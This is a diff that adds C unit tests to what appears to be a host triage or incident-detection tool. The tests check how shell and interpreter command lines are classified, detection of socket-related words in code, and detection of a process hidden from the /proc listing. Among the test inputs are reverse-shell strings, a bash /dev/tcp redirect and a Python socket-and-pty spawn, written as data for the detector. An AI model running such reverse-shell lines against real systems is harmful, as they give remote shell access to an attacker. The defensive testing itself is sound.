@@ -6,14 +6,19 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <signal.h>
 #include <sys/stat.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 #include <cmocka.h>
 
 #include "base/sys.h"
 #include "base/table.h"
+#include "kern/proc.h"
 #include "triage/odd.h"
+#include "triage/procs.h"
+#include "triage/program.h"
 #include "triage/triage.h"
 
 static void rules_are_whole(void **state)
@@ -178,6 +183,139 @@ static void a_root_that_is_none(void **state)
 	assert_true(e.text[0]);
 }
 
+/* --- programs --- */
+
+static struct program run_as(const char *exe, const char *cmdline, size_t n)
+{
+	struct proc_row r = {.cmdline = (char *)(uintptr_t)cmdline, .cmdline_len = n};
+
+	snprintf(r.exe, sizeof(r.exe), "%s", exe);
+	return program_of(&r);
+}
+#define RUN(exe, cmdline) run_as(exe, cmdline, sizeof(cmdline) - 1)
+
+static void ways_to_run(void **state)
+{
+	assert_int_equal(RUN("/bin/bash", "bash\0-i").way, WAY_BARE);
+	assert_int_equal(RUN("/bin/bash", "-bash").way, WAY_BARE);
+	assert_int_equal(RUN("/bin/bash", "bash\0--rcfile\0x").way, WAY_BARE);
+	assert_int_equal(RUN("/bin/sh", "sh\0-c\0id").way, WAY_INLINE);
+	assert_string_equal(RUN("/bin/sh", "sh\0-ec\0id").code, "id");
+	assert_int_equal(RUN("/bin/sh", "sh\0/tmp/x.sh").way, WAY_SCRIPT);
+	assert_true(RUN("/bin/sh", "sh\0/tmp/x.sh").odd_script);
+	assert_int_equal(RUN("/bin/bash", "bash\0-o\0pipefail\0/opt/x").way, WAY_SCRIPT);
+	assert_int_equal(RUN("/usr/bin/python3.11", "python3\0-m\0http.server").way, WAY_SCRIPT);
+	assert_int_equal(RUN("/usr/bin/python3.11", "python3\0-c\0x").way, WAY_INLINE);
+	assert_int_equal(RUN("/usr/bin/python3.11", "python3\0-").way, WAY_BARE);
+	assert_int_equal(RUN("/usr/bin/perl", "perl\0-MIO\0-e\0x").way, WAY_INLINE);
+	assert_int_equal(RUN("/usr/bin/php8.2", "php\0-r\0x").way, WAY_INLINE);
+	assert_int_equal(RUN("/usr/bin/gawk", "gawk\0BEGIN{s=\"/inet/tcp/0/x/1\"}").way,
+	                 WAY_INLINE);
+	assert_true(RUN("/bin/busybox", "busybox\0sh").shell);
+	assert_true(RUN("/bin/busybox", "nc\0-l").netcat);
+	assert_false(RUN("/bin/busybox", "syslogd").shell);
+	assert_int_equal(RUN("", "").way, WAY_BARE);
+}
+
+static void words_of_sockets(void **state)
+{
+	char words[64];
+
+	assert_int_equal(program_socket_words("print(1)", words, sizeof(words)), 0);
+	assert_int_equal(
+	    program_socket_words("bash -i >& /dev/tcp/1.2.3.4/5 0>&1", words, sizeof(words)), 2);
+	assert_true(program_socket_words("import socket,pty;s=socket.socket();s.connect(x);"
+	                                 "os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
+	                                 words, sizeof(words)) >= 3);
+	assert_true(memchr(words, 0, sizeof(words)));
+}
+
+/* --- a process that the list does not have --- */
+
+static char list_dir[64];
+static int list_without(int dir, const char *name, int flags, mode_t mode)
+{
+	/* The kernel's list of processes is asked for as "." of /proc. */
+	return !strcmp(name, ".") ? openat(AT_FDCWD, list_dir, flags)
+	                          : openat(dir, name, flags, mode);
+}
+
+static void list_all_but(int but)
+{
+	char path[96];
+	int *pids = NULL;
+	size_t n = 0;
+
+	assert_int_equal(proc_pids(&pids, &n, NULL), 0);
+	for (size_t i = 0; i < n; i++) {
+		snprintf(path, sizeof(path), "%s/%d", list_dir, pids[i]);
+		if (pids[i] != but)
+			assert_int_equal(mkdir(path, 0700), 0);
+	}
+	free(pids);
+}
+
+static bool tells_of(const struct seen *w, const char *rule, int pid)
+{
+	char selector[32];
+
+	snprintf(selector, sizeof(selector), "pid:%d:", pid);
+	for (size_t i = 0; i < w->n; i++)
+		if (!strcmp(w->f[i].rule, rule) &&
+		    !strncmp(w->f[i].selector, selector, strlen(selector)))
+			return true;
+	return false;
+}
+
+static void keep_hidden(void *arg, const struct finding *f)
+{
+	struct seen *w = arg;
+
+	if (!strcmp(f->rule, "hidden_process") && w->n < ARRAY_SIZE(w->f))
+		w->f[w->n++] = *f;
+}
+
+static void hidden_from_the_list(void **state)
+{
+	struct seen *w = calloc(1, sizeof(*w));
+	struct triage_config c = {.found = keep_hidden,
+	                          .done = on_done,
+	                          .arg = w,
+	                          .areas = UINT64_C(1) << triage_area_parse("processes")};
+	struct sys_ops faked = sys_kernel;
+	pid_t pid;
+
+	assert_non_null(w);
+	if (geteuid() != 0) {
+		free(w);
+		skip();
+	}
+	snprintf(list_dir, sizeof(list_dir), "/tmp/triage-list-XXXXXX");
+	assert_non_null(mkdtemp(list_dir));
+	pid = fork();
+	if (!pid) {
+		alarm(60);
+		for (;;)
+			pause();
+	}
+	assert_int_equal(triage_run(&c, NULL), 0);
+	assert_false(tells_of(w, "hidden_process", pid));
+
+	list_all_but(pid);
+	faked.openat = list_without;
+	sys = &faked;
+	assert_int_equal(triage_run(&c, NULL), 0);
+	sys = &sys_kernel;
+	assert_true(tells_of(w, "hidden_process", pid));
+
+	kill(pid, SIGKILL);
+	waitpid(pid, NULL, 0);
+	char rm[96];
+	snprintf(rm, sizeof(rm), "rm -rf %s", list_dir);
+	assert_int_equal(system(rm), 0);
+	free(w);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -185,6 +323,9 @@ int main(void)
 	    cmocka_unit_test(places),
 	    cmocka_unit_test(preload_of_a_mounted_root),
 	    cmocka_unit_test(a_root_that_is_none),
+	    cmocka_unit_test(ways_to_run),
+	    cmocka_unit_test(words_of_sockets),
+	    cmocka_unit_test(hidden_from_the_list),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
